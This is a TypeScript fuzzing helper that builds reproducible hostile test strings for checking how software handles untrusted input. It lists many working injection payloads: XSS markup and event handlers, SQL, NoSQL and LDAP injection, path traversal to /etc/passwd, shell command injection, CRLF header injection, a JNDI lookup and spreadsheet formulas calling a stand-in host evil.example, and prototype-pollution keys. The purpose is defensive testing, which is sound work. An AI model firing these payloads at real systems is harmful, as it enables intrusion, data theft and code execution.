/*
 * Strings for fuzzing: attack payloads, and text that often breaks software. The same seed always makes
 * the same strings, so that failures are reproducible.
 */

import { seededRandom } from "../../contours/seeded-random";

/** The payload. Tests define this function and check that it was never called. */
export const trap = "hacked()";

const markup = [
	`<script>${trap}</script>`,
	`<ScRiPt >${trap}</sCrIpT >`,
	`</script><script>${trap}//`,
	`</title></style></textarea></noscript><script>${trap}</script>`,
	`<img src=x onerror=${trap}>`,
	`"><img src=x onerror="${trap}">`,
	`'><svg onload='${trap}'>`,
	`<svg/onload=${trap}>`,
	`<svg><script href="data:text/javascript,${trap}"/></svg>`,
	`<svg><animate onbegin=${trap} attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${trap}>`,
	`<iframe srcdoc="<script>parent.${trap}</script>">`,
	`<iframe src="javascript:parent.${trap}">`,
	`<object data="javascript:${trap}">`,
	`<embed src="data:text/html,<script>opener.${trap}</script>">`,
	`<a href="javascript:${trap}">x</a>`,
	`<a href="jAvAsCrIpT&colon;${trap}">x</a>`,
	`<a href="java&#x09;script:${trap}">x</a>`,
	`<form action="javascript:${trap}"><button>x`,
	`<button formaction=javascript:${trap}>x`,
	`<input autofocus onfocus=${trap}>`,
	`<details open ontoggle=${trap}>`,
	`<body onload=${trap}>`,
	`<video><source onerror=${trap}>`,
	`<marquee onstart=${trap}>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${trap}">`,
	`<link rel=stylesheet href="https://evil.example/a.css">`,
	`<style>@import "https://evil.example/a.css";</style>`,
	`<template><script>${trap}</script></template>`,
	`<!--><script>${trap}</script>-->`,
	`<![CDATA[<script>${trap}</script>]]>`,
	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	`" onmouseover="${trap}" x="`,
	`' autofocus onfocus='${trap}' x='`,
	`\`\${${trap}}\``,
];

const code = [
	`javascript:${trap}`,
	`JaVaScRiPt:${trap}//`,
	`java\nscript:${trap}`,
	`\u0001javascript:${trap}`,
	`data:text/html,<script>${trap}</script>`,
	`data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
	`vbscript:${trap}`,
	`');${trap};//`,
	`";${trap};//`,
	`\\";${trap};//`,
	`-${trap}-`,
	`};${trap};{`,
	`*/${trap}/*`,
	`</style><script>${trap}</script>`,
	`{{${trap}}}`,
	`{{constructor.constructor('${trap}')()}}`,
	`\${${trap}}`,
	`#{${trap}}`,
	`<%= ${trap} %>`,
	`{% ${trap} %}`,
	`[[${trap}]]`,
	`@(${trap})`,
	`{"__proto__":{"polluted":"yes"}}`,
	`__proto__[polluted]=yes`,
	`constructor.prototype.polluted=yes`,
	`__proto__`,
	`constructor`,
	`prototype`,
	`toString`,
	`hasOwnProperty`,
	`__defineGetter__`,
	`[object Object]`,
];

const servers = [
	`' OR '1'='1`,
	`'; DROP TABLE users; --`,
	`1; SELECT pg_sleep(10)--`,
	`" OR ""="`,
	`admin'/*`,
	`') UNION SELECT null,null--`,
	`{"$gt":""}`,
	`*)(uid=*))(|(uid=*`,
	`../../../../etc/passwd`,
	`..\\..\\..\\windows\\win.ini`,
	`....//....//etc/passwd`,
	`%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
	`%252e%252e%252f`,
	`..%c0%af..%c0%af`,
	`/etc/passwd%00.html`,
	`file:///etc/passwd`,
	`\\\\evil.example\\share`,
	`//evil.example/`,
	`/\\evil.example`,
	`https://evil.example/`,
	`https:evil.example`,
	`http://127.0.0.1@evil.example/`,
	`; cat /etc/passwd`,
	`| id`,
	`$(id)`,
	`\`id\``,
	`& ping -c 1 evil.example &`,
	`%0d%0aSet-Cookie:%20a=b`,
	`\r\nLocation: https://evil.example/`,
	`\${jndi:ldap://evil.example/a}`,
	`=HYPERLINK("https://evil.example","x")`,
	`+cmd|' /C calc'!A0`,
];

const formats = [
	"%s%s%s%s%n",
	"%x %p %d %.1024d",
	"{0} {1} {}",
	"$& $1 $` $' $$",
	"\\0 \\x00 \\u0000",
	"(((((((((((((((((((((((((((((a)",
	"^(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
	..."NaN Infinity -0 1e309 0x7fffffffffffffff null undefined true () [ \\ % %E0%A4%A # ? & ;".split(
		" ",
	),
	" ",
	"\t",
];

const scripts = [
	"Ka mihi te tōtara, ko Māori te reo",
	"مرحبا بالعالم",
	"שלום עולם",
	"你好，世界",
	"こんにちは 世界",
	"नमस्ते दुनिया",
	"สวัสดีชาวโลก",
	"Здравствуй, мир",
	"ＦＵＬＬ ｗｉｄｔｈ",
	"𝕳𝖊𝖑𝖑𝖔",
	"Z̸̡͓͎a̶͇͝l̷̰̀g̸̨̑ȯ̵̧",
	"👩‍👩‍👧‍👦 🇳🇿 🏳️‍🌈 👍🏽",
	"\u{1F468}\u200D\u{1F4BB}\uFE0F",
	"ﷺ﷽",
	"İıſŉ ß ﬁ",
	"раураl.com",
];

/** Invisible characters, and characters that change how others are displayed. */
const invisible = [
	..."\u0000\u0001\u0008\u000b\u007f\u0085\u00a0\u00ad\u061c\r\n",
	..."\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\u3000",
	..."\ufeff\ufffd\uffff\ud800\u{e0001}\u{10ffff}\udfff",
	"\u001b[31m",
	"\udfff\ud800",
];

const all = [...markup, ...code, ...servers, ...formats, ...scripts, ...invisible];

/** Makes `count` different strings: first every string in the lists, then random combinations. */
export function hostileStrings(count: number, seed = 2025): string[] {
	const random = seededRandom(seed);
	const one = <Item>(list: readonly Item[]): Item =>
		list[Math.floor(random() * list.length)] as Item;
	const mixtures: readonly (() => string)[] = [
		() => one(all) + one(all),
		() => one(all) + one(invisible) + one(all),
		() => one(invisible) + one(all) + one(invisible),
		() => [...one(all)].join(one(invisible)),
		() => encodeURIComponent(one([...markup, ...code, ...servers])) + one(all),
		() => one(all).replace(/[<>"'&]/g, (letter) => `&#${letter.charCodeAt(0)};`),
		() => one(all).replace(/[a-z]/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter)),
		() => one(all).replaceAll(trap, `${trap};${one(code)}`),
		() => one(all).repeat(2 + Math.floor(random() * 20)),
		() => one(all) + String.fromCodePoint(Math.floor(random() * 0x110000)),
	];
	const made = new Set<string>(all);
	// Lengths around common buffer sizes.
	for (const length of [255, 256, 257, 1024, 4097]) made.add("A".repeat(length));
	while (made.size < count) made.add(one(mixtures)());
	return [...made].slice(0, count);
}
